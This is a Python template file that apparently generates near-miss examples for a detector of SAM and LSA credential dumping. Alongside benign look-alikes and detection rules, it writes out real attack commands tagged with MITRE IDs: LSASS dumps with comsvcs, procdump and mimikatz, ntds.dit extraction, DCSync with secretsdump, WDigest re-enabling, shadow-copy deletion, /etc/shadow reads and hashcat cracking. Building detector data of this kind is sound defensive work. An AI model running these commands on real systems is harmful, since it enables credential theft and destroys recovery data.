"""Near misses of dumping SAM and LSA secrets: other hives, other stores, the words alone."""

from __future__ import annotations

from training.generators.grammar import parse_templates

MORE_HIVE_NEAR = parse_templates(
    r"""
mh-near-save-software cmd: «reg¦reg.exe» save ‹hklm›\«SOFTWARE\‹Word›¦SYSTEM\CurrentControlSet\Services\‹name›¦HARDWARE\DESCRIPTION¦BCD00000000» ‹dir›\‹name›.hiv /y
mh-near-save-cu cmd: reg save HKCU\«Software\Microsoft\Office¦Software\‹Word›¦Environment¦Printers» \\‹server›\‹project›\%USERNAME%.hiv /y
mh-near-save-script text: for %%h in (SOFTWARE DEFAULT COMPONENTS) do reg save HKLM\%%h "D:\Backup\%%h.hiv" /y
mh-near-save-py text: subprocess.run(["reg", "save", r"HKCU\Software\‹Word›", r"D:\backup\‹name›.hiv", "/y"], check=True)
mh-near-save-csharp text: Process.Start("reg.exe", @"export HKCU\Software\‹Word› C:\ProgramData\‹name›.reg /y").WaitForExit();
mh-near-save-java text: Runtime.getRuntime().exec("reg export HKLM\\SOFTWARE\\JavaSoft C:\\Temp\\java.reg /y");
mh-near-save-js text: new ActiveXObject("WScript.Shell").Run("reg export HKCU\\Software\\‹Word› %TEMP%\\‹name›.reg /y", 0, true);
mh-near-save-salt bash: salt '‹server›' cmd.run 'reg export HKLM\SOFTWARE\«‹Word›¦Policies» C:\Temp\‹name›.reg /y'
mh-near-save-ansible bash: ansible ‹server› -m win_«shell¦command» -a 'reg «export¦save» HKLM\SOFTWARE\‹Word› C:\Temp\‹name›.reg /y'
mh-near-save-azure bash: az vm run-command invoke -g ‹project›-rg -n ‹server› --command-id RunPowerShellScript --scripts "reg export HKLM\SOFTWARE\‹Word› C:\‹name›.reg"
mh-near-save-ssm bash: aws ssm send-command --document-name AWS-RunPowerShellScript --parameters 'commands=["reg export HKLM\\SOFTWARE\\Amazon C:\\Temp\\‹name›.reg"]' --instance-ids i-0‹pid›
mh-near-save-console text: C:\> «runscript -Raw=```reg query HKLM\SOFTWARE\‹Word›```¦reg query HKLM\SYSTEM\CurrentControlSet\Services\‹name›¦reg set HKLM\SOFTWARE\‹Word› Version -Value=‹n›» session ‹guid›
mh-near-save-bof text +T1012: beacon> «reg query x64 HKLM\SOFTWARE\‹Word›¦reg queryv x64 HKLM\SOFTWARE\Microsoft\Windows ProductName¦reg_query HKCU Software\‹Word›»
mh-near-save-sliver text +T1012: sliver (‹Word›) > «registry read -H HKCU Software\\‹Word›\\Version¦registry list-subkeys -H HKLM SOFTWARE\\‹Word›¦registry list-values -H HKLM SOFTWARE\\‹Word›»
mh-near-load-image cmd: reg load HKLM\«OFFLINE¦MOUNT¦WIM» «D:\mount\Windows\System32\config\SOFTWARE¦C:\mount\Windows\System32\config\SYSTEM» & reg add HKLM\OFFLINE\‹Word› /v ‹name› /t REG_DWORD /d 1 /f
mh-near-load-default cmd: reg load HKU\«TEMP¦DEF¦‹name›» C:\Users\Default\NTUSER.DAT & reg add HKU\TEMP\Software\‹Word› /v ‹name› /d 1 /f & reg unload HKU\TEMP
mh-near-setupcomplete text: dism /mount-image /imagefile:‹name›.wim /index:1 /mountdir:C:\mount & reg load HKLM\‹Word› C:\mount\Windows\System32\config\SYSTEM & reg add HKLM\‹Word›\Setup\LabConfig /v BypassTPMCheck /t REG_DWORD /d 1
mh-near-security-center cmd: reg «export¦save¦query» "‹hklm›\SOFTWARE\Microsoft\«Security Center¦Security Center\Svc¦Windows Defender Security Center»" «‹file›¦/s»
mh-near-security-event cmd: reg «export¦query» "‹hklm›\SYSTEM\CurrentControlSet\«Services\EventLog\Security¦Control\SecurityProviders\SCHANNEL¦Services\SamSs¦Control\SecurePipeServers»" ‹file›
mh-near-security-policies cmd: «secedit /export /cfg ‹file› /quiet¦LGPO.exe /b ‹dir› /n ‹name›¦lgpo /parse /m ‹dir›\registry.pol¦gpresult /h ‹name›.html»
mh-near-security-wevt cmd: wevtutil «epl Security ‹dir›\security.evtx¦gl Security¦sl Security /ms:1073741824¦qe Security /c:5 /f:text»
mh-near-security-copy cmd: copy C:\Windows\System32\winevt\Logs\«Security¦System».evtx «‹dir›¦\\‹server›\‹project›\»
mh-near-security-ps powershell: Get-WinEvent -LogName «Security¦System» -MaxEvents ‹n› | Export-Csv ‹dir›\«security¦system».csv -NoTypeInformation
mh-near-security-file cmd: «copy¦move¦attrib +r¦type» ‹dir›\«security.cfg¦security.xml¦system.ini¦security-policy.pdf¦system.web.config»
mh-near-lsa-config powershell +T1012: Get-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\Lsa -Name «LmCompatibilityLevel¦DisableDomainCreds¦SCENoApplyLegacyAuditPolicy»
mh-near-lsa-set cmd: reg add ‹hklm›\SYSTEM\CurrentControlSet\Control\Lsa /v «RunAsPPL¦NoLMHash¦RestrictAnonymousSAM¦LimitBlankPasswordUse» /t REG_DWORD /d 1 /f
mh-near-lsa-set-ps powershell: Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\Lsa -Name «RestrictRemoteSAM -Value 'O:BAG:BAD:(A;;RC;;;BA)'¦RestrictAnonymousSAM -Value 1¦RunAsPPL -Value 1»
mh-near-lsa-api text: LsaOpenPolicy(NULL, &oa, POLICY_«VIEW_LOCAL_INFORMATION, &h); LsaQueryInformationPolicy(h, PolicyAccountDomainInformation, &info);¦CREATE_ACCOUNT, &h); LsaAddAccountRights(h, sid, &right, 1);¦LOOKUP_NAMES, &h); LsaLookupNames2(h, 0, 1, &n, &d, &s);»
mh-near-lsa-store text: LsaStorePrivateData(hPolicy, &keyName, &newValue) sets DefaultPassword for «kiosk autologon¦Sysinternals Autologon» on ‹server›
mh-near-reg-api text: RegSaveKeyEx(hKey, L"D:\\backup\\‹name›.hiv", NULL, REG_LATEST_FORMAT); // «HKCU\\Software\\‹Word›¦HKLM\\SOFTWARE\\‹Word›¦HKEY_USERS\\.DEFAULT»
mh-near-reg-api-py cmd: python -c "import winreg; k=winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'Software\‹Word›'); winreg.SaveKey(k,r'‹dir›\‹name›.hiv')"
mh-near-reg-monitor text: RegNotifyChangeKeyValue(hKey, TRUE, REG_NOTIFY_CHANGE_LAST_SET, hEvent, TRUE); // HKLM\\SOFTWARE\\‹Word›\\«Settings¦Policies»
mh-near-remote-registry cmd: sc \\‹server› «start RemoteRegistry & reg query \\‹server›\HKLM\SOFTWARE\‹Word›¦query RemoteRegistry¦config RemoteRegistry start= disabled¦stop RemoteRegistry»
mh-near-remote-ps powershell: Get-Service RemoteRegistry -ComputerName ‹server› | «Set-Service -StartupType Disabled¦select Status,StartType¦Stop-Service»
mh-near-remote-basekey powershell: [Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine','‹server›').OpenSubKey('SOFTWARE\«Microsoft\Windows NT\CurrentVersion¦‹Word›»').GetValue('«ProductName¦Version»')
mh-near-winreg-net text: zeek dce_rpc ‹ip› -> ‹ip›:445 winreg «OpenLocalMachine BaseRegOpenKey SOFTWARE\Microsoft\Windows NT\CurrentVersion BaseRegQueryValue¦BaseRegCloseKey¦BaseRegGetVersion»
mh-near-samr-net text: zeek dce_rpc ‹ip› -> ‹ip›:445 «samr SamrChangePasswordUser2 ok¦samr SamrConnect5¦netlogon NetrLogonSamLogonEx¦netlogon NetrServerAuthenticate3»
mh-near-netrpc bash +T1012: net rpc registry «enumerate 'HKLM\SOFTWARE\‹Word›'¦getvalue 'HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion' ProductName» -S ‹ip› -U '‹user›%‹pass›'
mh-near-reg-py bash +T1012: «reg.py¦impacket-reg» '‹domain›/‹user›:‹pass›'@‹ip› query -keyName 'HKLM\«SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall¦SYSTEM\CurrentControlSet\Services»'
mh-near-reg-py-add bash +T1112: «reg.py¦impacket-reg» '‹domain›/‹user›:‹pass›'@‹ip› add -keyName 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa' -v 'DisableRestrictedAdmin' -vt 'REG_DWORD' -vd '0'
mh-near-uselogon cmd +T1112: reg add ‹hklm›\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f
mh-near-lsass-comsvcs cmd +T1003.001: rundll32.exe «C:\Windows\System32\¦»comsvcs.dll«, ¦ »MiniDump ‹pid› ‹dir›\‹name›.dmp full
mh-near-lsass-procdump cmd +T1003.001: «procdump¦procdump64.exe¦‹name›.exe» -accepteula -«ma¦mp» lsass.exe ‹file›
mh-near-lsass-nanodump text +T1003.001: beacon> «nanodump --write C:\Windows\Temp\‹name›¦logonpasswords¦mimikatz sekurlsa::logonpasswords¦inline-execute nanodump.x64.o»
mh-near-lsass-nxc bash +T1003.001: «nxc¦netexec» smb ‹ip› -u ‹user› -H ‹hash› -M «lsassy¦nanodump¦handlekatz¦procdump»
mh-near-lsass-pypykatz bash +T1003.001: pypykatz lsa minidump ‹ldir›/‹name›.dmp -«o ‹lfile›¦g¦k ‹ldir›»
mh-near-lsass-msf text +T1003.001: meterpreter > «kiwi_cmd sekurlsa::logonpasswords¦creds_all¦creds_kerberos¦load mimikatz; wdigest»
mh-near-lsass-sharp text +T1003.001: beacon> execute-assembly /opt/«SharpDump.exe¦SafetyKatz.exe "sekurlsa::ekeys"¦SharpKatz.exe --Command logonpasswords»
mh-near-ntds-ntdsutil cmd +T1003.003: ntdsutil "ac i ntds" "ifm" "create full ‹dir›" q q
mh-near-ntds-vss cmd +T1003.003: copy ‹vss›\Windows\NTDS\ntds.dit ‹dir›\‹name›
mh-near-ntds-nxc bash +T1003.003: «nxc¦netexec¦cme» smb ‹ip› -u ‹user› -H ‹hash› «--ntds drsuapi¦--ntds --enabled¦-M ntdsutil»
mh-near-ntds-secretsdump bash +T1003.003: «secretsdump.py¦impacket-secretsdump» -ntds ‹ldir›/ntds.dit -system ‹ldir›/SYSTEM« -hashes lmhash:nthash¦ -outputfile ‹name›¦ -history» LOCAL
mh-near-ntds-esentutl cmd +T1003.003: esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d ‹file›
mh-near-ntds-dsinternals powershell +T1003.003: Get-ADDBAccount -All -DBPath ‹dir›\ntds.dit -BootKey $key
mh-near-ntds-diskshadow text +T1003.003: set context persistent; add volume c: alias cdrive; create; expose %cdrive% z:; exec "cmd.exe" /c copy z:\windows\ntds\ntds.dit c:\temp\‹name›
mh-near-dcsync bash +T1003.006: «secretsdump.py¦impacket-secretsdump» -just-dc-«user '‹domain›/krbtgt'¦ntlm» ‹domain›/‹user›@‹ip› -hashes :‹hash›
mh-near-cached-nxc bash +T1003.005: «pypykatz live lsa cached¦cachedump.py SYSTEM SECURITY¦creddump7/cachedump.py ‹ldir›/SYSTEM ‹ldir›/SECURITY true¦vol -f ‹lfile› windows.cachedump.Cachedump»
mh-near-cached-mimi text +T1003.005: mimikatz # lsadump::cache« /kiwi¦ /user:‹user› /ntlm:‹hash›¦»
mh-near-cached-query cmd +T1003.005: reg query ‹hklm›\SECURITY\Cache« /v NL$1¦ /s¦»
mh-near-cached-msf text +T1003.005: «meterpreter > run post/windows/gather/cachedump¦msf6 > use post/windows/gather/cachedump»
mh-near-cached-out text +T1003.005: [*] Dumping cached domain logon information (domain/username:hash) ‹domain›/‹user›:$DCC2$10240#‹user›#‹hash›
mh-near-cached-limit cmd: reg «query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v CachedLogonsCount¦add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v CachedLogonsCount /d 2 /f»
mh-near-vault cmd +T1555.004: «vaultcmd /listcreds:"Windows Credentials" /all¦rundll32.exe keymgr.dll,KRShowKeyMgr»
mh-near-vault-tools cmd +T1555.004: «mimikatz.exe vault::list exit¦CredentialsFileView.exe /stext ‹file›¦VaultPasswordView.exe /shtml ‹file›¦SharpDPAPI.exe credentials¦Seatbelt.exe WindowsVault CredEnum»
mh-near-vault-ps powershell +T1555.004: «Get-VaultCredential¦Invoke-WCMDump¦Get-StoredCredential | select UserName,Target¦(New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll()»
mh-near-vss-list cmd: «vssadmin list shadows¦vssadmin list volumes¦wmic shadowcopy get DeviceObject,InstallDate¦vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10GB¦diskshadow /s ‹dir›\list.dsh»
mh-near-vss-list-out text: Contents of shadow copy set ID: ‹guid› Contained 1 shadow copies at creation time: Original Volume: (C:) Shadow Copy Volume: ‹vss› Type: ClientAccessible
mh-near-vss-delete cmd +T1490: «vssadmin delete shadows /all /quiet¦wmic shadowcopy delete¦vssadmin.exe Delete Shadows /For=C: /Oldest»
mh-near-vss-restore cmd: «copy¦robocopy¦xcopy /s» ‹vss›\«Users\‹user›\Documents¦‹project›¦inetpub\wwwroot» ‹dir›
mh-near-vss-cim powershell: Get-CimInstance Win32_ShadowCopy -ComputerName ‹server› | «sort InstallDate | select -Last 1¦measure¦? InstallDate -lt (Get-Date).AddDays(-30) | Remove-CimInstance»
mh-near-backup-state cmd: «wbadmin start systemstatebackup -backuptarget:E: -quiet¦wbadmin start backup -allCritical -backupTarget:\\‹server›\backup -quiet¦wbadmin get status¦wbadmin delete systemstatebackup -keepVersions:5»
mh-near-backup-veeam text: Veeam «Agent¦Backup & Replication» job "‹Word› daily" «finished with Success¦processing C: System volume (VSS)¦created restore point» for ‹server›
mh-near-backup-vsstrace text: VSS writer «Registry Writer¦System Writer¦WMI Writer¦COM+ REGDB Writer» state [1] Stable Last error: No error
mh-near-backup-dsm cmd: «dsmc backup systemstate¦dsmc incremental C: -subdir=yes¦bpbackup -c ‹server› -p ‹Word› C:\‹project›¦avtar --create --systemstate¦nsrsnapvp_agent -c ‹server›»
mh-near-backup-ps powershell: «Start-VBRJob -Job '‹Word›'¦Start-WBBackup -Policy (Get-WBPolicy)¦Checkpoint-Computer -Description '‹Word› before update'¦Checkpoint-VM -Name ‹server› -SnapshotName ‹name›¦Export-VM -Name ‹server› -Path ‹dir›»
mh-near-backup-regidle text: Task Scheduler launched "\Microsoft\Windows\Registry\RegIdleBackup" instance ‹guid› for user «SYSTEM¦NT AUTHORITY\SYSTEM»
mh-near-backup-regidle-cmd cmd: schtasks /«query¦run¦change /enable» /tn "\Microsoft\Windows\Registry\RegIdleBackup"
mh-near-backup-enable cmd: reg add "‹hklm›\SYSTEM\CurrentControlSet\Control\Session Manager\Configuration Manager" /v EnablePeriodicBackup /t REG_DWORD /d 1 /f
mh-near-backup-rsync bash: «rsync -a --delete /home/sam/ ‹server›:/backup/sam/¦borg create ‹ldir›::‹name› /home/sam¦restic backup /srv/samba¦tar czf ‹name›.tgz /etc/samba»
mh-near-kape-other cmd: kape.exe --tsource C: --tdest ‹dir› --target «EventLogs¦WebBrowsers¦Prefetch¦LNKFilesAndJumpLists¦RecycleBin»
mh-near-recmd-other cmd: RECmd.exe -f ‹dir›\«NTUSER.DAT¦SOFTWARE¦UsrClass.dat» --bn ‹name›.reb --csv ‹dir›
mh-near-regripper-other bash: «rip.pl¦regripper» -r ‹ldir›/«NTUSER.DAT -p userassist¦SOFTWARE -p winver¦SYSTEM -p shimcache¦SYSTEM -p usbstor¦Amcache.hve -p amcache»
mh-near-ez-other cmd: «AmcacheParser.exe -f ‹dir›\Amcache.hve --csv ‹dir›¦AppCompatCacheParser.exe -f ‹dir›\SYSTEM --csv ‹dir›¦SBECmd.exe -d ‹dir› --csv ‹dir›¦PECmd.exe -d ‹dir›»
mh-near-volatility-other bash: vol -f ‹lfile› windows.«pslist¦malfind¦cmdline¦registry.hivelist¦registry.userassist¦svcscan¦registry.printkey --key 'Software\Microsoft\Windows\CurrentVersion\Run'»
mh-near-tsk-other bash: «icat ‹lfile› ‹pid›-128-1 > ‹name›.docx¦fls -r -m C: ‹lfile› > ‹name›.body¦tsk_recover ‹lfile› ‹ldir›/out¦mmls ‹lfile›»
mh-near-velociraptor-other text: SELECT * FROM Artifact.Windows.«System.Pslist()¦EventLogs.Evtx()¦Forensics.Prefetch()¦Registry.UserAssist()¦Sysinternals.Autoruns()»
mh-near-guestfish-other bash: «virt-ls -a ‹name›.qcow2 /Windows/System32¦virt-copy-out -a ‹name›.qcow2 /Users/sam/Documents ‹ldir›¦virt-win-reg ‹name› 'HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion' ProductName¦virt-inspector -a ‹name›.qcow2»
mh-near-rawdisk-other bash: «dd if=/dev/sda of=‹lfile› bs=4M status=progress¦ewfacquire /dev/sdb -t ‹name›¦ntfsclone -s -o ‹lfile› /dev/sda2¦ntfscat /dev/sda2 Users/sam/‹name›.txt»
mh-near-live-mount bash: «mount -t ntfs-3g /dev/sda3 /mnt/win && cp -r /mnt/win/Users/sam/Desktop ‹ldir›¦ntfsfix /dev/sda3¦chkdsk D: /f¦dislocker -V /dev/sda3 -u -- /mnt/bl && ls /mnt/bl»
mh-near-chntpw-other text: chntpw version 1.00 140201 usage: chntpw [OPTIONS] <samfile> [systemfile] [securityfile] «-h This message -u <user> Username or RID to change¦-l list all users in SAM file and exit»
mh-near-aws-sam-build bash: sam «build¦package¦deploy» --template«-file¦» ‹name›.yaml --«s3-bucket ‹project›-sam¦region eu-west-1 --no-confirm-changeset¦config-env prod¦parameter-overrides Stage=dev»
mh-near-aws-sam-local bash: sam local «start-api -p 3000¦invoke ‹Word›Function -e events/‹name›.json¦start-lambda --warm-containers EAGER¦generate-event s3 put»
mh-near-aws-sam-template text: Transform: AWS::Serverless-2016-10-31 Resources: ‹Word›Function: Type: AWS::Serverless::«Function¦Api¦SimpleTable¦HttpApi» Properties: Runtime: «python3.12¦nodejs20.x¦go1.x»
mh-near-aws-sam-file bash: «cp template.yaml .aws-sam/build/¦rm -rf .aws-sam¦tar czf sam-template.tgz template.yaml samconfig.toml¦cat samconfig.toml»
mh-near-aws-sam-ps powershell: «sam deploy --guided¦sam validate; sam build; sam deploy¦Copy-Item .\template.yaml .\.aws-sam\build¦winget install Amazon.SAM-CLI¦choco install awssamcli»
mh-near-samba-conf bash: «testparm -s /etc/samba/smb.conf¦cp /etc/samba/smb.conf ‹ldir›/smb.conf.bak¦systemctl restart smbd nmbd¦tdbbackup /var/lib/samba/registry.tdb¦samba-tool domain passwordsettings show¦samba-regedit --help»
mh-near-samba-sam-log text: smbd[‹pid›]: «check_sam_security: sam authentication for user ‹user› succeeded¦passdb backend = tdbsam¦make_server_info_sam succeeded for ‹user›¦sam_account_ok: account ‹user› enabled»
mh-near-samba-dc text: samba-tool domain provision: «Setting up sam.ldb partitions and settings¦Setting up sam.ldb rootDSE¦Pre-loading the Samba 4 and AD schema¦Setting up sam.ldb schema»
mh-near-samtools bash: samtools «view -h ‹name›.bam > ‹name›.sam¦index ‹name›.sorted.bam¦flagstat ‹name›.sam¦merge out.bam a.sam b.sam¦fixmate -m ‹name›.sam -»
mh-near-bwa bash: «bwa mem ‹name›.fa ‹name›_1.fq ‹name›_2.fq > ‹name›.sam¦minimap2 -ax sr ‹name›.fa ‹name›.fq > ‹name›.sam¦bowtie2 -x ‹name› -U ‹name›.fq -S ‹name›.sam¦hisat2 -x ‹name› -U ‹name›.fq -S ‹name›.sam»
mh-near-sam-ml bash: «python segment.py --model sam_vit_h_4b8939.pth --input ‹name›.png¦wget https://dl.fbaipublicfiles.com/segment_anything/sam_vit_b_01ec64.pth¦pip install segment-anything¦python -m sam2.export --checkpoint sam2_hiera_tiny.pt»
mh-near-sam-embedded bash: «bossac -p /dev/ttyACM0 -e -w -v ‹name›.bin # SAM D21¦openocd -f board/atmel_samd21_xplained_pro.cfg¦arduino-cli core install arduino:samd¦edbg -t samd51 -bpv -f ‹name›.bin»
mh-near-sam-asset text: «Flexera SAM agent inventory of ‹server› uploaded¦ServiceNow Software Asset Management (SAM) reconciliation finished¦SAM.gov entity registration exported to ‹name›.csv¦Snow SAM inventory server restarted¦SolarWinds SAM: component "‹Word›" is up on ‹server›»
mh-near-sam-radio text: «IBM SAM: Tivoli System Automation resource ‹name› online¦lssam -V | Online IBM.ResourceGroup:‹name›¦samctrl -l¦HSM QFS: samfsck ‹name› clean¦SAP SAM trace of ‹server› written»
mh-near-sam-people text: «Sam¦sam» «exported the system settings for ‹project›¦copied the security report to ‹server›¦saved the system diagram to ‹dir›¦asks: who took a backup of the hive warehouse?¦dumped the database of ‹project› yesterday»
mh-near-sam-home cmd: «robocopy C:\Users\sam \\‹server›\home\sam /mir¦copy C:\Users\sam\Desktop\system.xlsx ‹dir›¦xcopy /s C:\Users\sam.‹domain› D:\sam¦ren ‹dir›\sam.old sam»
mh-near-sam-home-ps powershell: «Compress-Archive C:\Users\sam\Documents ‹dir›\sam.zip¦Get-ChildItem \\‹server›\home\sam -Recurse | measure Length -Sum¦New-Item ‹dir›\sam -ItemType Directory¦Copy-Item .\sam.json ‹dir›»
mh-near-hive-data bash: «hive -e 'select count(*) from ‹word›' > ‹name›.csv¦beeline -u jdbc:hive2://‹server›:10000 -e 'export table ‹word› to "/tmp/‹name›"'¦hdfs dfs -cp /user/hive/warehouse/‹word› /backup¦hive --service metastore¦schematool -dbType postgres -info»
mh-near-hive-dart text: «final box = await Hive.openBox('‹word›'); await box.put('theme', 'dark');¦Hive.registerAdapter(‹Word›Adapter());¦TheHive case #‹pid› exported to ‹name›.pdf¦await Hive.box('settings').compact();»
mh-near-config-icacls cmd: icacls ‹system32›\config\*.* /inheritance:e
mh-near-config-fix powershell: «icacls $env:windir\system32\config\*.* /inheritance:e # CVE-2021-36934 workaround¦Test-HiveNightmareWorkaround -ComputerName ‹server›¦Get-HotFix -Id KB5005033»
mh-near-config-systemprofile cmd: «dir¦copy¦rd /s /q¦icacls» C:\Windows\System32\config\systemprofile\AppData\Local\«‹name›.log¦Temp¦Microsoft\‹name›.dat»
mh-near-config-size cmd: «dir /a ‹config›\*.LOG1¦dir ‹config›\TxR¦dir ‹config›\SOFTWARE¦forfiles /p C:\Windows\System32\config\RegBack /c "cmd /c echo @file @fsize"»
mh-near-config-exclusion powershell +T1685: Add-MpPreference -ExclusionPath '«D:\‹project›¦C:\ProgramData\‹Word›¦C:\Windows\SoftwareDistribution\Datastore»'
mh-near-config-linux bash: «cp /etc/security/limits.conf ‹ldir›¦tar czf ‹name›.tgz /etc/sysconfig /etc/security¦cat /mnt/win/Windows/System32/drivers/etc/hosts¦cp -a /boot/config-6.1.0 ‹ldir›»
mh-near-help cmd: «reg save /?¦reg export /?¦reg copy /?¦reg restore /?¦esentutl /?¦diskshadow /?¦vssadmin create shadow /?»
mh-near-help-ps powershell: «Get-Help Get-WBPolicy¦Get-Command *Registry*¦Get-Help about_Registry_Provider¦Get-Command -Module DSInternals¦Find-Module OfflineRegistry»
mh-near-help-out text: REG SAVE KeyName FileName [/y] [/reg:32 | /reg:64] KeyName ROOTKEY\SubKey ROOTKEY [ HKLM | HKCU | HKCR | HKU | HKCC ] Examples: REG SAVE HKLM\Software\MyCo\MyApp AppBkUp.hiv
mh-near-help-tools bash: «nxc smb --help¦nxc smb -L¦secretsdump.py -h | less¦pypykatz registry --help¦regsecrets.py -h¦msfconsole -q -x "info post/windows/gather/hashdump; exit"¦searchsploit hivenightmare»
mh-near-help-impacket text: usage: secretsdump.py [-h] [-ts] [-debug] [-system SYSTEM] [-bootkey BOOTKEY] [-security SECURITY] [-sam SAM] [-ntds NTDS] target
mh-near-rule-sigma text: title: «Dumping of Sensitive Hives Via Reg.EXE¦Volume Shadow Copy SAM Access¦HiveNightmare Detection¦Potential SAM Database Dump» logsource: product: windows detection: selection: CommandLine|contains: ['\sam', '\system', ' save '] level: high
mh-near-rule-yara text: rule «hacktool_pwdump¦mimikatz_lsadump¦gsecdump_strings¦hivenightmare_poc» { meta: author = "‹user›" strings: $a = "lsadump::sam" ascii $b = "SAM\\SAM\\Domains\\Account" condition: any of them }
mh-near-rule-kql text: DeviceProcessEvents | where FileName =~ "reg.exe" and ProcessCommandLine has_any ("save", "export") and ProcessCommandLine has_any («"sam", "security", "system"¦@"hklm\sam"») | project Timestamp, DeviceName
mh-near-rule-spl text: index=windows EventCode=«4688¦1» CommandLine="*reg* save *hklm\\«sam¦security»*" | stats count by host, user
mh-near-rule-eql text: process where process.name : "reg.exe" and process.args : ("save", "export") and process.args : ("«hklm\\sam¦hklm\\security»")
mh-near-rule-test bash: «pytest -k sam_dump_rule¦sigma check rules/windows/proc_creation_win_reg_dumping_sensitive_hives.yml¦git commit -am "tune secretsdump remote registry rule"¦suricata -T -S sam-dump.rules¦elastic-rule test hive_dump.toml»
mh-near-report text: «MITRE ATT&CK T1003.002 Security Account Manager: adversaries may extract credential material from the SAM¦Report ‹n›: the actor used secretsdump in a 2022 intrusion; no trace of it was found on ‹server›¦Training slide: why SAM and LSA secrets need protection (Credential Guard, LAPS)¦Playbook: after a SAM dump rotate local administrator passwords with LAPS»
mh-near-report-status text: «Pentest finding: local admin password reuse, deploy LAPS by Q‹n›¦Ticket INC‹pid›: tune the alert on registry hive export, false positive by backup agent on ‹server›¦CVE-2021-36934 patched on ‹n› of ‹n› hosts in ‹project›¦Advisory: restrict SAM-R remote calls (RestrictRemoteSAM)»
mh-near-laps powershell: «Get-LapsADPassword -Identity ‹server›¦Reset-LapsPassword¦Invoke-LapsPolicyProcessing¦Update-LapsADSchema¦Set-LapsADAuditing -Identity ‹Word› -AuditedPrincipals Everyone»
mh-near-defsignature text: Defender «definition update: 1.4‹n›.‹pid›.0 installed on ‹server›¦scan finished, no threats found in ‹dir›¦exclusions list exported by ‹user›¦signature changes: HackTool:Win32/PWDump updated detection»
mh-near-defender-other text: Microsoft Defender Antivirus «blocked¦detected» «PUA:Win32/‹Word›¦Trojan:Win32/Wacatac.B!ml¦Adware:Win32/‹Word›¦VirTool:Win32/DefenderTamperingRestore¦Ransom:Win32/‹Word›» in ‹dir›\‹name›.exe
mh-near-tools-clean cmd: «del ‹dir›\pwdump7.exe¦rd /s /q C:\tools\mimikatz¦certutil -hashfile ‹dir›\mimikatz.zip SHA256¦dir /s /b C:\*hivenightmare*.exe¦tasklist | findstr /i gsecdump»
mh-near-tools-install bash: «pip install impacket¦pipx install netexec¦pip download pypykatz¦git clone https://github.com/fortra/impacket¦apt install -y samdump2 creddump7¦go install github.com/c-sto/gosecretsdump@latest¦docker pull rflathers/impacket»
mh-near-impacket-other bash +T1021.002: «smbclient.py¦impacket-smbclient» ‹domain›/‹user›:'‹pass›'@‹ip› -inputfile ‹lfile›
mh-near-impacket-exec bash +T1047: «wmiexec.py¦impacket-wmiexec» ‹domain›/‹user›:'‹pass›'@‹ip› '«hostname¦ver¦dir C:\‹project›»'
mh-near-nxc-shares bash +T1135: «nxc¦netexec¦crackmapexec» smb «‹ip›¦‹lfile›» -u ‹user› -p '‹pass›' --shares
mh-near-dpapi cmd +T1555.003: «SharpChrome.exe logins /unprotect¦lazagne.exe browsers -oN¦ChromePass.exe /stext ‹file›¦WebBrowserPassView.exe /scomma ‹file›»
mh-near-gpp powershell +T1552.006: «Get-GPPPassword¦Get-CachedGPPPassword¦findstr /s /i cpassword \\‹fqdn›\sysvol\*.xml»
mh-near-autologon cmd +T1552.002: reg query "‹hklm›\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v «DefaultPassword¦DefaultUserName¦AutoAdminLogon»
mh-near-winscp cmd +T1552.002: reg «query "HKCU\Software\SimonTatham\PuTTY\Sessions" /s¦query "HKCU\Software\Martin Prikryl\WinSCP 2\Sessions" /s¦query HKLM /f password /t REG_SZ /s»
mh-near-shadow-linux bash +T1003.008: «cat /etc/shadow¦unshadow /etc/passwd /etc/shadow > ‹lfile›¦cp /etc/shadow ‹ldir›/‹name›»
mh-near-keychain bash +T1555.001: «security dump-keychain -d login.keychain¦security find-generic-password -wa ‹name›¦cp ~/Library/Keychains/login.keychain-db ‹ldir›»
mh-near-mac-security bash: security «list-keychains¦find-identity -v -p codesigning¦verify-cert -c ‹name›.pem¦unlock-keychain -p ci build.keychain¦export -k build.keychain -t certs -o ‹name›.pem»
mh-near-event-registry text: Sysmon 13 SetValue reg.exe HKLM\«SOFTWARE\‹Word›\Version¦System\CurrentControlSet\Services\‹name›\Start¦System\CurrentControlSet\Control\Lsa\RunAsPPL» DWORD (0x0000000‹n›)
mh-near-event-kernel16 text: Microsoft-Windows-Kernel-General 16 The access history in hive «\??\C:\Users\‹user›\ntuser.dat¦\??\C:\ProgramData\Microsoft\Provisioning\Microsoft-Desktop-Provisioning.dat¦\??\C:\Windows\AppCompat\Programs\Amcache.hve» was cleared updating ‹n› keys and creating ‹n› modified pages.
mh-near-event-samss text: EventID «16962 Directory-Services-SAM: Remote calls to the SAM database are being restricted using the default security descriptor¦16977 The domain is configured with minimum password length¦7036 The Security Accounts Manager service entered the running state»
mh-near-sc-samss cmd: «sc qc SamSs¦sc config SamSs start= auto¦sc queryex SamSs¦sc sdshow samss»
mh-near-regedit-gui text: ‹user› opened regedit.exe and exported HKEY_«CURRENT_USER\Software\‹Word›¦LOCAL_MACHINE\SOFTWARE\Policies¦CLASSES_ROOT\.‹word›» to ‹file›
mh-near-robocopy-b cmd: robocopy /b «D:\‹project›¦\\‹server›\home¦C:\Users\‹user›» ‹dir› /mir /r:1 /w:1
mh-near-sebackup cmd +T1033: whoami /priv | findstr «SeBackupPrivilege¦SeRestorePrivilege¦SeSecurityPrivilege»
mh-near-john bash +T1110.002: «john --format=NT --wordlist=rockyou.txt ‹lfile›¦hashcat -m 1000 ‹lfile› ‹lfile›¦hashcat -m 2100 ‹lfile› rockyou.txt»
